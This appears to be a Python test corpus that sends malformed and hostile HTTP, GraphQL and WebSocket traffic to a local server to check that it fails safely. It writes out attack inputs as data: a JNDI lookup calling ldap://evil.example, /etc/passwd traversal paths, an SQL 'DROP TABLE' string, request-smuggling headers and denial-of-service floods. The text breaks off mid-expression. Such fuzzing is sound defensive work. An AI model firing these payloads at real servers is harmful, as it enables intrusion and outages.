"""What the internet sends: requests, and what only looks like one, made to hang, fill, confuse or fell a server.

Each is listed by its name. What a server must do with all of them: answer, or part, soon, and blame itself for none.
"""

import asyncio
import base64
import contextlib
import gzip
import json
import re
import struct
import zlib
from collections.abc import Awaitable, Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import product
from typing import Any
from urllib.parse import quote

__all__ = ["HEADER_BYTES", "MESSAGE_BYTES", "REQUEST_SECONDS", "Heard", "Hostile", "corpus", "sent"]

PATIENCE = 20
"""Seconds after which a server that has neither answered nor parted hangs."""
REQUEST_SECONDS = 2.0
HEADER_BYTES = 16_384
MESSAGE_BYTES = 1_000_000
"""The limits of the server that they are sent to: low, so that the corpus takes little time, and yet so long that what
a busy machine sends comes in time."""

JSON = "application/json"
SWITCHED = b"HTTP/1.1 101 "
STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")
SMUGGLED = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: smuggled\r\nConnection: close\r\n\r\n"
"""A request where none is to be read, as the body of another. An answer to it has its id."""
DOCUMENT = {200, 400}
"""How a GraphQL document may be answered: with data, or errors."""
KEY = base64.b64encode(bytes(16)).decode()
SOCKET = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec-WebSocket-Key": KEY,
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Protocol": "graphql-transport-ws",
}


class Wire:
    """A connection, byte by byte."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.heard = b""

    async def send(self, *pieces: bytes) -> None:
        """Send pieces, each by itself; that the server has parted already is no error."""
        with contextlib.suppress(ConnectionError):
            for piece in pieces:
                self.writer.write(piece)
                await self.writer.drain()

    async def hear(self, what: bytes) -> None:
        """Return once the server has sent that. Raises EOFError where it parts."""
        while what not in self.heard:
            piece = await self.reader.read(65_536)
            if not piece:
                raise EOFError
            self.heard += piece

    async def hear_all(self) -> None:
        """Return once the server has parted; a socket that it closes is closed from here too."""
        is_open = self.heard.startswith(SWITCHED)
        with contextlib.suppress(ConnectionError):
            while piece := await self.reader.read(65_536):
                self.heard += piece
                if is_open and close_code_of(self.heard):
                    is_open = False
                    await self.send(CLOSE)


@dataclass(frozen=True)
class Heard:
    """What a server answered."""

    statuses: list[int]
    """Of HTTP, in order."""
    close_code: int | None
    """Of the socket."""
    body: bytes


@dataclass(frozen=True)
class Hostile:
    """Something hostile."""

    name: str
    attack: Callable[[Wire], Awaitable[None]]
    answered: frozenset[int] | None = None
    """The statuses, or close codes, of which it must get one; None where any will do that blames no server."""
    is_silent: bool = False
    """Whether it hangs up itself, and hears nothing."""


async def sent(hostile: Hostile, address: str) -> Heard:
    """What the server at an address answers to it. Raises TimeoutError where it neither answers nor parts."""
    host, _, port = address.removeprefix("http://").rpartition(":")
    async with asyncio.timeout(PATIENCE):
        reader, writer = await asyncio.open_connection(host, int(port))
        wire = Wire(reader, writer)
        try:
            with contextlib.suppress(ConnectionError, EOFError):
                await hostile.attack(wire)
                if not hostile.is_silent:
                    await wire.hear_all()
        finally:
            writer.transport.abort()
    return _understood(wire.heard)


def _understood(heard: bytes) -> Heard:
    is_socket = heard.startswith(SWITCHED)
    statuses = [101] if is_socket else [int(status) for status in STATUS.findall(heard)]
    return Heard(statuses, close_code_of(heard) if is_socket else None, heard)


def close_code_of(heard: bytes) -> int | None:
    """The code with which a socket was closed, if it was."""
    at = heard.index(b"\r\n\r\n") + 4
    while len(heard) >= at + 4:
        kind, length, start = heard[at] & 0x0F, heard[at + 1], 2
        if length == 126:
            length, start = struct.unpack_from(">H", heard, at + 2)[0], 4
        elif length == 127 and len(heard) >= at + 10:
            length, start = struct.unpack_from(">Q", heard, at + 2)[0], 10
        if kind == 8 and length >= 2:
            return int(struct.unpack_from(">H", heard, at + start)[0])
        at += start + length
    return None


# --- Pieces ----------------------------------------------------------------------------------------------------------


def head(method: str = "POST", path: str = "/graphql", *, host: str | None = "localhost", **headers: str) -> bytes:
    """The head of a request, which is the last of its connection."""
    named = {"Host": host, "Connection": "close", **{name.replace("_", "-"): value for name, value in headers.items()}}
    lines = [f"{name}: {value}" for name, value in named.items() if value is not None]
    return "\r\n".join([f"{method} {path} HTTP/1.1", *lines, "", ""]).encode("latin-1")


def post(body: bytes, type: str = JSON, **headers: str) -> bytes:
    """A whole POST."""
    return head(Content_Type=type, Content_Length=str(len(body)), **headers) + body


def asking(query: str, **variables: Any) -> bytes:
    """A body that asks for a document."""
    return json.dumps({"query": query, "variables": variables}).encode()


def raw(*pieces: bytes) -> Callable[[Wire], Awaitable[None]]:
    """Send pieces, and hear what is said."""

    async def attack(wire: Wire) -> None:
        await wire.send(*pieces)

    return attack


def halved(*pieces: bytes) -> Callable[[Wire], Awaitable[None]]:
    """Send pieces, and then say that nothing more will come."""

    async def attack(wire: Wire) -> None:
        await wire.send(*pieces)
        wire.writer.write_eof()

    return attack


def dripped(beginning: bytes, drop: bytes, every: float = 0.1) -> Callable[[Wire], Awaitable[None]]:
    """Send a beginning, and then a drop again and again for as long as it is taken."""

    async def attack(wire: Wire) -> None:
        async def drip() -> None:
            while True:
                await wire.send(drop)
                await asyncio.sleep(every)

        await wire.send(beginning)
        dripping = asyncio.create_task(drip())
        await wire.hear_all()
        dripping.cancel()

    return attack


def frame(kind: int, data: bytes = b"", *, fin: bool = True, masked: bool = True, reserved: int = 0) -> bytes:
    """A frame of a socket; its mask of zeros masks nothing."""
    size = len(data)
    length = (
        bytes([size])
        if size < 126
        else b"\x7e" + struct.pack(">H", size)
        if size < 2**16
        else b"\x7f" + struct.pack(">Q", size)
    )
    length = bytes([length[0] | 0x80]) + length[1:] if masked else length
    return bytes([(0x80 if fin else 0) | reserved << 4 | kind]) + length + (bytes(4) if masked else b"") + data


def said(message: Any) -> bytes:
    """A message of a socket's protocol."""
    return frame(1, message if isinstance(message, bytes) else json.dumps(message).encode())


def subscribe(query: Any, id: Any = "1", **variables: Any) -> bytes:
    """A message that begins an operation."""
    return said({"id": id, "type": "subscribe", "payload": {"query": query, "variables": variables}})


CLOSE = frame(8, struct.pack(">H", 1000))
INIT = said({"type": "connection_init"})


def answered_in_between(*pieces: bytes) -> Callable[[Wire], Awaitable[None]]:
    """Send pieces, each once the one before it has been answered."""

    async def attack(wire: Wire) -> None:
        for piece in pieces[:-1]:
            await wire.send(piece)
            await wire.hear(b"\r\n\r\n")
        await wire.send(pieces[-1])

    return attack


def shaking_hands(request: bytes) -> Callable[[Wire], Awaitable[None]]:
    """Send a handshake, and take one's leave where it is answered as one."""

    async def attack(wire: Wire) -> None:
        await wire.send(request)
        await wire.hear(b"\r\n\r\n")
        if wire.heard.startswith(SWITCHED):
            await wire.send(CLOSE)

    return attack


def on_a_socket(*frames: bytes, begun: bool = True, quit: bool = True) -> Callable[[Wire], Awaitable[None]]:
    """Open a socket, say something, and take one's leave."""

    async def attack(wire: Wire) -> None:
        await wire.send(head("GET", **SOCKET))
        await wire.hear(b"\r\n\r\n")
        if begun:
            await wire.send(INIT)
            await wire.hear(b"connection_ack")
        await wire.send(*frames)
        if quit:
            await wire.send(CLOSE)

    return attack


# --- Families --------------------------------------------------------------------------------------------------------


def documents() -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Documents: a name, the text, its variables."""
    for depth in (16, 100, 1_000, 10_000):
        yield f"nested {depth} fields deep", "{ jobs { " * depth + "id" + " } }" * depth, {}
        yield f"nested {depth} inline fragments deep", "{ " + "... { " * depth + "__typename" + " }" * depth + " }", {}
        yield f"a list {depth} deep", f"{{ job(id: {'[' * depth}1{']' * depth}) {{ id }} }}", {}
        yield f"an object {depth} deep", f"{{ job(id: {'{a: ' * depth}1{'}' * depth}) {{ id }} }}", {}
        yield f"a type {depth} deep", f"query ($a: {'[' * depth}ID{']' * depth}) {{ job(id: $a) {{ id }} }}", {}
        yield f"{depth} braces that are never closed", "{" * depth, {}
        yield (
            f"the schema {depth} types deep",
            "{ __schema { types { " + "ofType { " * depth + "name" + " }" * depth + " } } }",
            {},
        )
    for many in (10, 100, 1_000, 10_000):
        yield f"{many} aliases", "{ " + " ".join(f"a{n}: __typename" for n in range(many)) + " }", {}
        yield (
            f"{many} aliases of a read",
            "{ " + " ".join(f"a{n}: job(id: {n}) {{ id }}" for n in range(many)) + " }",
            {},
        )
        yield f"{many} times the same field", "{ " + "__typename " * many + "}", {}
        yield f"{many} directives on a field", "{ __typename " + "@skip(if: false) " * many + "}", {}
        yield f"{many} unknown directives", "{ __typename " + "@a " * many + "}", {}
        yield f"{many} directives on an operation", "query " + "@a " * many + "{ __typename }", {}
        yield f"{many} operations", " ".join(f"query Q{n} {{ __typename }}" for n in range(many)), {}
        yield (
            f"{many} fragments",
            "{ __typename } " + " ".join(f"fragment F{n} on Job {{ id }}" for n in range(many)),
            {},
        )
        yield f"{many} arguments", "{ job(" + " ".join(f"a{n}: 1" for n in range(many)) + ") { id } }", {}
        yield f"{many} variables", f"query ({' '.join(f'$v{n}: ID' for n in range(many))}) {{ __typename }}", {}
        yield (
            f"{many} subscriptions in one",
            "subscription { " + " ".join(f"a{n}: jobChanged {{ id }}" for n in range(many)) + " }",
            {},
        )
        yield f"{many} comments", "#\n" * many + "{ __typename }", {}
        yield f"{many} commas", "{" + "," * many + "__typename }", {}
    for ring in (1, 2, 10, 100):
        spread = " ".join(f"fragment F{n} on Job {{ ...F{(n + 1) % ring} }}" for n in range(ring))
        yield f"a ring of {ring} fragments", f"{{ jobs {{ ...F0 }} }} {spread}", {}
    for levels in (10, 20, 30):
        doubling = " ".join(f"fragment F{n} on Job {{ ...F{n + 1} ...F{n + 1} }}" for n in range(levels))
        yield (
            f"fragments that double {levels} times",
            f"{{ jobs {{ ...F0 }} }} {doubling} fragment F{levels} on Job {{ id }}",
            {},
        )
    statuses = "query ($s: [JobStatus!]) { jobs(status: $s) { id } }"
    yield "100000 statuses that are none", statuses, {"s": ["R"] * 100_000}
    yield "80000 statuses", statuses, {"s": ["RUNNING"] * 80_000}
    names = "query ($n: [String!]) { jobs { metrics { values(names: $n) { name } } } }"
    yield "200000 names of values", names, {"n": ["a"] * 200_000}
    log = "mutation ($m: [MetricInput!]!) { logMetrics(id: 1, metrics: $m) { __typename } }"
    yield "80000 points", log, {"m": [{"step": 1}] * 80_000}
    yield "100000 points that are none", log, {"m": [{}] * 100_000}
    yield "a point of 30000 values", log, {"m": [{"step": 1, "values": [{"name": "a", "value": 1}] * 30_000}]}
    create = "mutation ($i: CreateJobInput!) { createJob(input: $i) { __typename } }"
    yield "a job of 60000 settings", create, {"i": {f"a{n}": 0 for n in range(60_000)}}
    for long in (1_000, 40_000):
        yield (
            f"the schema under names of {long} letters",
            f"{{ __schema {{ types {{ fields {{ {'a' * long}: name }} }} }} }}",
            {},
        )
        yield (
            f"an id of {long} digits, 100 times",
            ("query ($i: ID!) { " + " ".join(f"a{n}: job(id: $i) {{ id }}" for n in range(100)) + " }"),
            {"i": "9" * long},
        )
    overlapping = " ".join(f"a: metrics(limit: {n}) {{ seq }}" for n in range(1, 400))
    yield "fields that contradict each other", f"{{ jobs {{ {overlapping} }} }}", {}
    for number in (
        "1e999",
        "-1e999",
        "9" * 400,
        "-" + "9" * 400,
        "9" * 20,
        "2147483648",
        "9223372036854775808",
        "0.1e-999",
        "1" + "0" * 5_000,
    ):
        yield f"the number {number[:8]} of {len(number)} as an id", f"{{ job(id: {number}) {{ id }} }}", {}
        yield f"the number {number[:8]} of {len(number)} as a limit", f"{{ jobs(limit: {number}) {{ id }} }}", {}
        yield (
            f"the number {number[:8]} of {len(number)} as a learning rate",
            (
                f'{{ previewJob(input: {{ name: "x", modelName: "x", epochs: 1, learningRate: {number} }}) {{ __typename }} }}'  # noqa: E501  # hostile, and a line
            ),
            {},
        )
    for text in (
        "\\ud800",
        "\\udfff\\ud800",
        "\\u{110000}",
        "\\u{D800}",
        "\\u",
        "\\x",
        "\x00",
        "\x1b[2J",
        "\ufeff",
        "\u202e",
    ):
        shown = text.encode("unicode_escape").decode()
        yield f"the text {shown} as an id", f'{{ job(id: "{text}") {{ id }} }}', {}
        yield f"the text {shown} in the document", f"{{ job{text} }}", {}
    for size in (1_000, 100_000, 900_000):
        yield f"a field of {size} letters", "{ " + "a" * size + " }", {}
        yield f"an id of {size} digits", f'{{ job(id: "{"1" * size}") {{ id }} }}', {}
        yield f"a variable's id of {size} letters", "query ($a: ID!) { job(id: $a) { id } }", {"a": "é" * (size // 6)}
        yield (
            f"a name of {size} letters",
            (
                "mutation ($n: String!) { createJob(input: {name: $n, modelName: $n, epochs: 1, learningRate: 0.1}) { __typename } }"  # noqa: E501  # hostile, and a line
            ),
            {"n": "n" * size},
        )
        yield f"a block string of {size} lines", '{ job(id: """' + "\n" * size + '""") { id } }', {}
        yield f"a string of {size} letters that never ends", '{ job(id: "' + "a" * size, {}
    for value in (
        None,
        True,
        [],
        [[[1]]],
        {},
        {"a": 1},
        1.5,
        -1,
        2**70,
        "",
        " ",
        "٣",
        "1e3",
        "0x1",
        "../1",
        "1; DROP TABLE job",
        "%s%s%n",
    ):
        yield f"the variable {value!r} as an id", "query ($a: ID) { job(id: $a) { id } }", {"a": value}
        yield (
            f"the variable {value!r} as a batch",
            ('mutation ($a: [MetricInput!]!) { logMetrics(id: "1", metrics: $a) { __typename } }'),
            {"a": value},
        )
    for wrong in (
        "",
        " ",
        "\n",
        "{",
        "}",
        "{}",
        "query",
        "{ a(",
        "{ ... }",
        "fragment",
        "on",
        "null",
        "$",
        "!",
        '"',
        '"""',
        "\x00",
        "🚂",
        "type Query { a: Int }",
        "{ __typename",
        "subscription",
        "extend schema @a",
    ):
        yield f"the document {wrong!r}", wrong, {}


def bodies() -> Iterator[tuple[str, bytes, set[int]]]:
    """Bodies of a POST that are no such request: a name, the body, how it may be answered."""
    for body in (
        b"",
        b" ",
        b"null",
        b"1",
        b'"x"',
        b"[]",
        b"[null]",
        b"{}",
        b'{"query":1}',
        b'{"query":[]}',
        b'{"query":null}',
        b"{",
        b"[",
        b"NaN",
        b'{"query":"{__typename}","variables":1}',
        b'{"query":"{__typename}","variables":[]}',
        b'{"query":"{__typename}","operationName":1}',
        b'{"query":"{__typename}","extensions":1}',
    ):
        yield f"the body {body.decode()!r}", body, {400}
    for name, body in {
        "bytes that are no UTF-8": b'{"query":"\xff\xfe"}',
        "an overlong slash": b'{"query":"\xc0\xaf"}',
        "UTF-16": '{"query":"{__typename}"}'.encode("utf-16"),
        "UTF-8 with a mark before it": b'\xef\xbb\xbf{"query":"{__typename}"}',
        "a lone surrogate in JSON": b'{"query":"\\ud800"}',
        "a lone surrogate in a variable": b'{"query":"{__typename}","variables":{"a":"\\udfff"}}',
        "zeros": bytes(10_000),
        "a million brackets": b"[" * 999_000,
        "a million braces": b'{"a":' * 190_000,
        "a batch of a thousand": b"[" + b",".join([b'{"query":"{__typename}"}'] * 1_000) + b"]",
        "a number of a hundred thousand digits": b'{"query":"{__typename}","variables":{"a":' + b"9" * 100_000 + b"}}",
        "variables a hundred thousand deep": b'{"query":"{__typename}","variables":'
        + b'{"a":' * 100_000
        + b"1"
        + b"}" * 100_001,
        "a hundred thousand variables": json.dumps(
            {"query": "{__typename}", "variables": {f"a{n}": n for n in range(50_000)}}
        ).encode(),
        "the same member ten thousand times": b"{" + b'"query":"{__typename}",' * 10_000 + b'"query":"{__typename}"}',
    }.items():
        yield name, body, DOCUMENT
    yield "one byte more than may come", b" " * (MESSAGE_BYTES + 1), {413}
    yield "three times as much as may come", b" " * (3 * MESSAGE_BYTES), {413}


def requests() -> Iterator[tuple[str, bytes, set[int] | None]]:
    """Requests of HTTP, and what only looks like one: a name, the bytes, how it may be answered."""
    hello = asking("{ __typename }")
    chunked = {"Content_Type": JSON, "Transfer_Encoding": "chunked"}
    size = str(len(hello))
    for encoding, body in {
        "gzip": gzip.compress(bytes(10**7)),
        "deflate": zlib.compress(bytes(10**7)),
        "br": b"x",
        "zstd": b"x",
        "gzip, gzip": b"x",
        "identity, gzip": b"x",
        "": b"x",
    }.items():
        yield (
            f"a body in {encoding or 'no'} encoding",
            post(body, Content_Encoding=encoding),
            {415} if encoding else None,
        )
    for name, lines in {
        "two lengths that differ": ["Content-Length: 5", f"Content-Length: {size}"],
        "two lengths that agree": [f"Content-Length: {size}"] * 2,
        "lengths in a list": [f"Content-Length: {size}, {size}"],
        "a length and chunks": [f"Content-Length: {size}", "Transfer-Encoding: chunked"],
        "chunks and a length": ["Transfer-Encoding: chunked", f"Content-Length: {size}"],
        "chunks that are not last": ["Transfer-Encoding: chunked, identity"],
        "an unknown transfer encoding": ["Transfer-Encoding: cow"],
        "a transfer encoding behind a tab": ["Transfer-Encoding:\tcow, chunked\x0b"],
        "a transfer encoding with a space before the colon": ["Transfer-Encoding : chunked"],
        "a length with a plus": [f"Content-Length: +{size}"],
        "a negative length": ["Content-Length: -1"],
        "a length in hexadecimal": ["Content-Length: 0x1f"],
        "a length with an underscore": ["Content-Length: 3_1"],
        "a length that is no number": ["Content-Length: many"],
        "a length beyond all numbers": ["Content-Length: " + "9" * 40],
        "a folded header": ["X-A: 1", " Transfer-Encoding: chunked"],
        "a header without a name": [": x"],
        "a header without a colon": ["nonsense"],
        "a header with a zero in it": ["X-A: a\x00b"],
        "a header with a bare return in it": ["X-A: a\rX-B: b"],
        "a space in a header's name": ["X A: 1"],
    }.items():
        request = (
            head(Content_Type=JSON).removesuffix(b"\r\n") + "\r\n".join([*lines, "", ""]).encode("latin-1") + hello
        )
        yield name, request, {400} if "many" not in name and "agree" not in name else {400, 200}
    for name, body in {
        "a chunk that is longer than it says": b"1\r\nabc\r\n0\r\n\r\n",
        "a chunk of no number": b"z\r\n\r\n",
        "a chunk of a negative size": b"-1\r\na\r\n0\r\n\r\n",
        "a chunk beyond all numbers": b"f" * 40 + b"\r\na",
        "a chunk in 0x": b"0x1\r\na\r\n0\r\n\r\n",
        "a chunk with bare line feeds": b"1\na\n0\n\n",
        "a chunk without an end": b"5\r\n{    ",
        "a trailer that is none": b"0\r\nno trailer\r\n\r\n",
    }.items():
        yield name, head(**chunked) + body, {400, 408}
    piece = b"%x\r\n%s\r\n" % (len(hello), hello)
    yield "a chunk with a long extension", head(**chunked) + b"1;" + b"a" * 100_000 + b"\r\n", {400, 408, 431}
    yield "an endless chunk size", head(**chunked) + b"0" * 200_000, {400, 431}
    yield "trailers without end", head(**chunked) + piece + b"0\r\n" + b"X-A: 1\r\n" * 400_000, {431, 200}
    yield (
        "a trailer that says where it comes from",
        head(**chunked) + piece + b"0\r\nOrigin: http://evil.example\r\n\r\n",
        {200},
    )
    yield "a hundred thousand small chunks", head(**chunked) + b"1\r\n \r\n" * 100_000 + b"0\r\n\r\n", {400}
    for method in (
        "PUT",
        "DELETE",
        "PATCH",
        "OPTIONS",
        "TRACE",
        "CONNECT",
        "HEAD",
        "PRI",
        "PROPFIND",
        "get",
        "GETT",
        "\x00",
        "A" * 100_000,
    ):
        yield (
            f"the method {method[:10]!r}",
            head(method),
            {400, 404, 405, 431} | ({200} if method in {"HEAD", "OPTIONS"} else set()),
        )
    for path in (
        "*",
        "",
        "//",
        "graphql",
        "http://",
        "http://evil.example/graphql",
        "localhost:80",
        "/%",
        "/%zz",
        "/%00",
        "/%ff%fe",
        "/\xff",
        "/a b",
        "/" + "a" * 10_000,
        "/" + "%41" * 3_000,
        "/graphql?" + "a=1&" * 3_000,
        "/graphql?query=" + quote("{" * 3_000),
        "/graphql?query=%ff",
        "/graphql?query=%00",
        "/graphql?variables=%7B",
        "/graphql?query=a&query=b",
        "/graphql/",
        "/graphql/../graphql",
        "/;/",
        "/#",
        "/?",
    ):
        yield f"the path {path[:30]!r}", head("GET", path), {200, 307, 400, 404, 431}
    outside = ("..", "%2e%2e", ".%2e", "%2e.", "%252e%252e", "..%00", "....", "\xc0\xae\xc0\xae", "..;")
    for dots, slash, root in product(outside, ("/", "%2f", "\\", "%5c"), ("/assets/",)):
        path = root + slash.join([dots] * 6 + ["etc", "passwd"])
        yield f"the file {path[:40]!r}", head("GET", path), {400, 404}
    for path in (
        "/assets",
        "/assets/",
        "/assets//etc/passwd",
        "/assets/\x00",
        "/assets/%00",
        "/assets/" + "a/" * 2_000,
        "/assets/" + "a" * 5_000,
        "/assets/C:/x",
        "/favicon.svg/..",
        "/assets/./././",
        "/assets/con",
    ):
        yield f"the asset {path[:30]!r}", head("GET", path), {400, 404}
    for name, host in {
        "none": None,
        "an empty one": "",
        "another's": "evil.example",
        "with a user": "a@localhost",
        "with a path": "localhost/x",
        "with a space": "local host",
        "two in one": "localhost, evil.example",
        "with a port beyond": "localhost:999999",
        "with no port's number": "localhost:x",
        "with a zero": "localhost%00",
        "in brackets": "[evil]",
        "of a thousand letters": "a" * 1_000,
        "that ends in ours": "evil-localhost",
        "that begins with ours": "localhost.evil.example",
    }.items():
        yield f"a host: {name}", head("GET", "/graphql?query={__typename}", host=host), {400, 421}
    yield "two hosts", head("GET", "/", Connection="close\r\nHost: evil.example"), {400}
    for origin in (
        "null",
        "http://evil.example",
        "http://localhost.evil.example",
        "http://evil.example@localhost",
        "",
        "localhost",
        "http://localhost:1",
        "file://",
        "x" * 10_000,
    ):
        yield f"the origin {origin[:30]!r}", post(hello, Origin=origin), {403}
        yield f"a socket of the origin {origin[:30]!r}", head("GET", Origin=origin, **SOCKET), {403, 431}
    for many, length in (
        (100, 10),
        (1_000, 10),
        (5_000, 10),
        (1, 10_000),
        (1, 100_000),
        (1, 5_000_000),
        (100, 100_000),
        (100_000, 1),
    ):
        flood = b"".join(b"X-%d: %s\r\n" % (n, b"a" * length) for n in range(many))
        fits = len(flood) < HEADER_BYTES - 1_000
        yield (
            f"{many} headers of {length} letters",
            post(hello).replace(b"\r\n", b"\r\n" + flood, 1),
            {200} if fits else {431},
        )
        sock = head("GET", **SOCKET).replace(b"\r\n", b"\r\n" + flood, 1)
        yield (
            f"a socket with {many} headers of {length} letters",
            sock,
            None if fits else {431},
        )
    yield "an address of five megabytes", b"GET /" + b"a" * 5_000_000 + b" HTTP/1.1\r\n\r\n", {431}
    yield "a method of five megabytes", b"G" * 5_000_000, {400}
    for name, text in {
        "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
        "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(100),
        "SSH": b"SSH-2.0-OpenSSH_9.9\r\n",
        "SMB": b"\x00\x00\x00\x85\xffSMBr" + bytes(100),
        "Redis": b"*1\r\n$4\r\nINFO\r\n",
        "zeros": bytes(1_000),
        "HTTP/0.9": b"GET /\r\n\r\n",
        "HTTP/3.7": b"GET / HTTP/3.7\r\nHost: localhost\r\n\r\n",
        "an answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        "a proxy's greeting": b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "a log's bait": b"GET /${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${jndi:ldap://x}\r\nConnection: close\r\n\r\n",  # noqa: E501  # hostile, and a line
        "bare line feeds": b"GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n",
    }.items():
        yield f"what is {name}", text, {400, 404, 405, 200}
    yield (
        "a thousand requests at once",
        head("GET", "/healthz").replace(b"close", b"keep-alive") * 1_000 + head("GET", "/healthz"),
        {200},
    )
    yield "a request and then nonsense", post(hello).replace(b"close", b"keep-alive") + b"\x00nonsense\r\n\r\n", None
    for type in (
        "text/plain",
        "",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=utf-7",
        "a" * 5_000,
        "application/json\x00",
    ):
        yield f"a body of the type {type[:40]!r}", post(hello, type), {400, 415}
    for accept in ("x" * 10_000, "*/*;q=" + "9" * 1_000, ",".join(["a/b"] * 3_000), "text/event-stream" * 100, "\xff"):
        yield f"the accept {accept[:20]!r} of {len(accept)}", post(hello, Accept=accept), {200, 406}
    yield "an upgrade to h2c", head("GET", "/healthz", Connection="Upgrade, close", Upgrade="h2c"), {200}
    yield "an expectation", post(hello, Expect="100-continue"), {100}
    yield "another expectation", post(hello, Expect="200-ok"), {200, 417}
    yield (
        "a range of a file",
        head("GET", "/", Range="bytes=" + ",".join(f"{n}-{n}" for n in range(1_500))),
        {200, 206, 400, 416},
    )
    yield "a range that is none", head("GET", "/", Range="bytes=9-1"), {200, 400, 416}


def handshakes() -> Iterator[tuple[str, dict[str, str], set[int] | None]]:
    """Handshakes of sockets that are none: a name, what is changed, how it may be answered."""
    for name, value in (
        ("Key", ""),
        ("Key", "x"),
        ("Key", "A" * 5_000),
        ("Version", "12"),
        ("Version", ""),
        ("Version", "13, 13"),
        ("Version", "x"),
        ("Extensions", "permessage-deflate; server_max_window_bits=99"),
        ("Extensions", "\xff"),
        ("Extensions", ";;;"),
        ("Extensions", "a," * 3_000),
        ("Protocol", "\xff"),
        ("Protocol", "," * 1_000),
        ("Protocol", "graphql-ws"),
    ):
        lets = {400, 426} if name in {"Key", "Version"} else None
        yield f"a handshake with {name} {value[:20]!r}", {f"Sec-WebSocket-{name}": value}, lets
    yield "a handshake elsewhere", {"path": "/"}, {403, 404}
    yield "a handshake at no path", {"path": "/%ff"}, {403, 404}
    yield "a handshake by POST", {"method": "POST"}, {415}
    yield "a handshake that connects otherwise", {"Connection": "keep-alive, Upgrade, close"}, None
    yield "a handshake without a host", {"Host": ""}, {400}
    yield "a handshake for another host", {"Host": "evil.example"}, {421}


def frames() -> Iterator[tuple[str, Sequence[bytes], set[int] | None]]:
    """What is said on a socket that has begun: a name, the frames, with which codes it may be closed."""
    for kind in (3, 7, 0xB, 0xF):
        yield f"a frame of the kind {kind}", [frame(kind)], {1002}
    for reserved in (1, 2, 4, 7):
        yield f"a frame with the reserved bits {reserved}", [frame(1, b"{}", reserved=reserved)], {1002}
    yield "a frame that is not masked", [frame(1, b"{}", masked=False)], {1002}
    yield "a ping in pieces", [frame(9, fin=False)], {1002}
    yield "a ping of 126 bytes", [frame(9, bytes(126))], {1002}
    yield "a piece that continues nothing", [frame(0, b"x")], {1002}
    yield "a message within a message", [frame(1, b"x", fin=False), frame(1, b"x")], {1002}
    yield "a close of one byte", [frame(8, b"x")], {1002}
    for code in (0, 999, 1004, 1005, 1006, 1015, 2999, 5000, 65535):
        yield f"a close with {code}", [frame(8, struct.pack(">H", code))], {1002}
    yield "a close with a reason that is no UTF-8", [frame(8, struct.pack(">H", 1000) + b"\xff")], {1002, 1007}
    yield "text that is no UTF-8", [frame(1, b"\xff\xfe")], {1007}
    yield "text that is no UTF-8, in pieces", [frame(1, b"\xff", fin=False), frame(0, b"\xfe")], {1007}
    yield "a surrogate", [frame(1, b"\xed\xa0\x80")], {1007}
    yield "bytes", [frame(2, b"{}")], {4400}
    yield "more than may come", [frame(1, bytes(MESSAGE_BYTES + 1))], {1009}
    yield (
        "more than may come, in pieces",
        [frame(1, bytes(60_000), fin=False), *[frame(0, bytes(60_000), fin=False)] * 20],
        {1009},
    )
    yield "an exabyte, as it says", [b"\x81\xff" + struct.pack(">Q", 2**60) + bytes(4)], {1009}
    yield "a negative length", [b"\x81\xff" + b"\xff" * 8 + bytes(4)], {1009, 1002}
    yield "empty pieces without end", [frame(1, fin=False) + frame(0, fin=False) * 5_000], {4429}
    yield "pings without end", [frame(9, b"x") * 5_000], {4429}
    yield "pongs without end", [frame(10, b"x") * 5_000], {4429}
    yield "messages without end", [said({"type": "ping"}) * 5_000], {4429}
    yield "messages of the protocol without end", [subscribe("{ __typename }") * 5_000], {4409, 4429}
    for text in (
        b"",
        b" ",
        b"null",
        b"1",
        b"[]",
        b'"x"',
        b"{",
        b"{}",
        b"[" * 100_000,
        b'{"type":1}',
        b'{"type":null}',
        b'{"type":"x"}',
        b'{"type":"connection_ack"}',
        b'{"type":"next"}',
        b'{"type":"\\ud800"}',
        b'{"type":"ping","payload":1}',
        b'{"type":"complete"}',
        b'{"type":"complete","id":1}',
        b'{"type":"start","id":"1","payload":{}}',
        b'{"type":"subscribe","id":"","payload":{"query":"{a}"}}',
        b'{"type":"subscribe","id":1,"payload":{"query":"{a}"}}',
        b'{"type":"subscribe","id":"1"}',
        b'{"type":"subscribe","id":"1","payload":[]}',
        b'{"type":"subscribe","id":"1","payload":{"query":1}}',
        b'{"type":"subscribe","id":"1","payload":{"query":"{a}","variables":1}}',
    ):
        yield f"the message {text[:60].decode()}", [said(text)], {4400}
    yield "a second beginning", [INIT], {4429}
    yield "an id of 900 kB", [subscribe("{ __typename }", id="x" * 900_000)], {4400}
    yield "an id of 257 letters", [subscribe("{ __typename }", id="x" * 257)], {4400}
    yield "the end of an id of 900 kB", [said({"type": "complete", "id": "x" * 900_000})], {4400}
    yield (
        "operations that carry 900 kB each for nothing",
        [subscribe("subscription { jobChanged { id } }", str(n), unused="x" * 900_000) for n in range(20)],
        None,
    )
    yield (
        "operations that select by 900 kB each",
        [
            subscribe(
                "subscription ($n: [String!]) { jobChanged { latestMetrics { values(names: $n) { name } } } }",
                str(n),
                n=[str(n) + "x" * 900_000],
            )
            for n in range(20)
        ],
        None,
    )
    yield "a ping that carries 900 kB", [said({"type": "ping", "payload": {"a": "x" * 900_000}})], None
    yield "the same id twice", [subscribe("subscription { jobChanged { id } }") * 2], {4409}
    yield (
        "too many operations",
        [b"".join(subscribe("subscription { jobChanged { id } }", str(n)) for n in range(300))],
        None,
    )
    yield "an end of what never began", [said({"type": "complete", "id": "x"})], None
    yield (
        "operations that are ended at once",
        [
            b"".join(
